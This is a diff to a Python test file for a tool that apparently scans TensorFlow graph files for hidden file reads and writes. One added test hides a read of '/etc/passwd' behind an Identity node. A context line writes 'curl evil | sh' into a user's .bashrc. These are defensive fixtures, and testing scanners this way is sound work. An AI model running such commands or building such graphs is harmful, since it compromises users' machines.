@@ -76,6 +76,18 @@ def test_a_vocabulary_that_the_graph_names_is_not_an_asset(
     assert f"The graph gives it {path}." in found.message
 
 
+def test_a_vocabulary_at_a_place_that_is_put_together_is_no_asset(tf: Any, tmp_path: Path) -> None:
+    graph = tf.compat.v1.GraphDef.FromString(
+        graph_reading(tf, "/etc/passwd", tmp_path / "graph.pb").read_bytes()
+    )
+    reading = next(node for node in graph.node if node.op.startswith("InitializeTable"))
+    graph.node.add(name="hidden", op="Identity", input=[reading.input[1]])
+    reading.input[1] = "hidden"
+    (tmp_path / "graph.pb").write_bytes(graph.SerializeToString())
+    (found,) = findings(tmp_path / "graph.pb")
+    assert (found.severity.value, found.rule) == ("warning", "reads-vocabulary")
+
+
 def test_a_finding_tells_the_file_that_the_graph_names(tf: Any, tmp_path: Path) -> None:
     def write() -> Any:
         tf.io.write_file("/home/alice/.bashrc", "curl evil | sh")
